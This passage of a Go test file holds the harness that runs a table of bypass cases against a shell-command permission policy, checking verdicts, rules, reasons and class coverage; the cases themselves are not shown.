	k := chain.KindOf(err)
	return (errors.As(err, &pe) || errors.As(err, &ee)) && (k == chain.KindSyntax || k == chain.KindUnsupported)
}

// planText renders a plan for bypassCase.plan: each segment's assignments
// and arguments, unknown words as written, segments joined by "; ".
func planText(c *chain.Chain) string {
	var segs []string
	for _, s := range c.Segments() {
		var words []string
		for _, a := range s.Assigns {
			words = append(words, a.Name+"="+a.Value)
		}
		words = append(words, s.Args...)
		segs = append(segs, strings.Join(words, " "))
	}
	return strings.Join(segs, "; ")
}

// onlyMatch is a bypassCase.skip: the case needs the glob pattern to match
// exactly the file want on this host.
func onlyMatch(pattern, want string) func() string {
	return func() string {
		if m, _ := filepath.Glob(pattern); len(m) != 1 || m[0] != want {
			return pattern + " does not match " + want + " alone here"
		}
		return ""
	}
}

// caseProblems lists what the decision d of the plan ch misses of c;
// judge judges a plan with the case's policy in a mode (for hard and as),
// and root and home are the fixture's.
func caseProblems(c bypassCase, ch *chain.Chain, d *chain.Decision, judge func(*chain.Chain, Mode) *chain.Decision, root, home string) []string {
	var out []string
	if string(d.Verdict) != c.verdict {
		out = append(out, fmt.Sprintf("verdict %s, want %s (%s)\nsegments: %+v\nchain: %v", d.Verdict, c.verdict, c.why, d.Segments, d.Chain))
	}
	if c.plan != "" && planText(ch) != c.plan {
		out = append(out, fmt.Sprintf("plan %q, want %q", planText(ch), c.plan))
	}
	all := strings.Join(d.Chain, "\n")
	ruled := false
	for _, s := range d.Segments {
		all += "\n" + strings.Join(s.Reasons, "\n")
		ruled = ruled || s.Verdict == d.Verdict && s.Rule == c.rule
	}
	if c.rule != "" && !ruled {
		out = append(out, fmt.Sprintf("no %s segment names rule %q: %+v", d.Verdict, c.rule, d.Segments))
	}
	if c.reason != "" && !strings.Contains(all, c.reason) {
		out = append(out, fmt.Sprintf("no reason holds %q:\n%s", c.reason, all))
	}
	if c.hard {
		for mode, want := range map[Mode]chain.Verdict{ModeBypass: chain.Ask, ModeDontAsk: chain.Deny} {
			if v := judge(ch, mode).Verdict; v != want {
				out = append(out, fmt.Sprintf("%s: verdict %s, want %s (the ask is hard)", mode, v, want))
			}
		}
	}
	if c.as != "" {
		asChain, err := planCase(bypassCase{cmd: c.as, env: c.env}, root, home)
		if err != nil {
			return append(out, fmt.Sprintf("as %q: %v", c.as, err))
		}
		want := judge(asChain, c.mode)
		if len(want.Segments) != len(d.Segments) {
			return append(out, fmt.Sprintf("as %q: %d segments, the plan has %d", c.as, len(want.Segments), len(d.Segments)))
		}
		for i, w := range want.Segments {
			g := d.Segments[i]
			if g.Verdict != w.Verdict || g.Rule != w.Rule || !slices.Equal(g.Reasons, w.Reasons) {
				out = append(out, fmt.Sprintf("segment %d is judged %s %q %q, but %q is judged %s %q %q",
					i, g.Verdict, g.Rule, g.Reasons, c.as, w.Verdict, w.Rule, w.Reasons))
			}
		}
	}
	return out
}

func TestBypassTable(t *testing.T) {
	root, home := fixture(t)
	counts := map[int]int{}
	for _, c := range bypassCases {
		counts[c.class]++
		name := c.cmd
		if len(name) > 60 {
			name = name[:60]
		}
		t.Run(name, func(t *testing.T) {
			if !symlinksOK && strings.Contains(c.cmd, "link") && strings.Contains(c.cmd, "cat ") {
				skipCase(t, noSymlinks)
			}
			if c.skip != nil {
				if why := c.skip(); why != "" {
					skipCase(t, why)
				}
			}
			ch, err := planCase(c, root, home)
			if c.verdict == reject {
				if err == nil && c.known != "" {
					t.Skip("known gap: " + c.known)
				}
				if !isRefusal(err) {
					t.Fatalf("class %d: %q: want a parse or plan refusal (%s), got err=%v", c.class, c.cmd, c.why, err)
				}
				return
			}
			if err != nil {
				t.Fatalf("class %d: %q: parse or plan: %v", c.class, c.cmd, err)
			}
			judge := caseJudge(t, c, root, home, nil)
			d := judge(ch, c.mode)
			if problems := caseProblems(c, ch, d, judge, root, home); len(problems) > 0 {
				if c.known != "" {
					t.Skip("known gap: " + c.known)
				}
				for _, p := range problems {
					t.Errorf("class %d: %q: %s", c.class, c.cmd, p)
				}
			} else if c.known != "" {
				t.Logf("the known gap is closed, drop it: %s", c.known)
			}
			if os.Getenv("POLICY_TABLE_VERBOSE") != "" {
				t.Logf("%s %q plan %q chain=%q sugg=%q", d.Verdict, c.cmd, planText(ch), d.Chain, d.Suggestions)
				for _, s := range d.Segments {
					t.Logf("   %s %q", s.Verdict, s.Reasons)
				}
			}
			if len(d.Segments) != len(ch.Segments()) {
				t.Errorf("%d segment decisions for %d segments", len(d.Segments), len(ch.Segments()))
			}
			for _, s := range d.Segments {
				if len(s.Reasons) == 0 {
					t.Errorf("segment %d has no reason", s.Segment)
				}
			}
		})
	}
	classes := make([]int, 0, len(counts))
	for k := range counts {
		classes = append(classes, k)
	}
	sort.Ints(classes)
	var b strings.Builder
	for _, k := range classes {
		b.WriteString(" ")
		if k == 0 {
			b.WriteString("other")
		} else {
			b.WriteString(strconv.Itoa(k))
		}
		b.WriteString(":" + strconv.Itoa(counts[k]))
	}
	t.Logf("%d cases; per class:%s", len(bypassCases), b.String())
	if len(bypassCases) < 150 {
		t.Errorf("only %d cases", len(bypassCases))
	}
	for k := 1; k <= 34; k++ {
		if counts[k] == 0 {
			t.Errorf("bypass class %d has no case", k)
		}
	}
}

// procSubstHere skips a case with a process substitution on Windows, where
// the parser refuses it (no /dev/fd) before anything is judged.
func procSubstHere() string {
	if runtime.GOOS == "windows" {
		return "process substitution is refused on Windows (no /dev/fd)"
	}
	return ""
}

// caseJudge judges a case's chains in root under its policy, in the mode
// asked for, for a chain started with env when env is set.
func caseJudge(t *testing.T, c bypassCase, root, home string, env []string) func(*chain.Chain, Mode) *chain.Decision {
	return func(ch *chain.Chain, mode Mode) *chain.Decision {
		p := casePolicy(t, c, home)
		p.Mode = mode
		if env != nil {
			p = p.ForEnv(env, nil)
		}
		d, err := p.Authorize(context.Background(), ch, root)
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
}
